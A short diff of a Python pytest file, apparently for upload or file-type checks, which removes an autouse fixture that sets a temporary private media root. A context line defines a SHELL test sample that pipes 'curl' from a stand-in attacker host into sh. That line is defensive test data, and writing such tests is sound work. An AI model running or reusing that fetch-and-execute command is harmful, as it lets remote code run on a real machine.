@@ -38,11 +38,6 @@ SHELL = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
 OFFICE_TYPES = "application/vnd.openxmlformats-officedocument"
 
 
-@pytest.fixture(autouse=True)
-def _private_files(settings, tmp_path):
-    settings.PRIVATE_MEDIA_ROOT = tmp_path / "private"
-
-
 @pytest.fixture
 def world(db):
     return make_world()
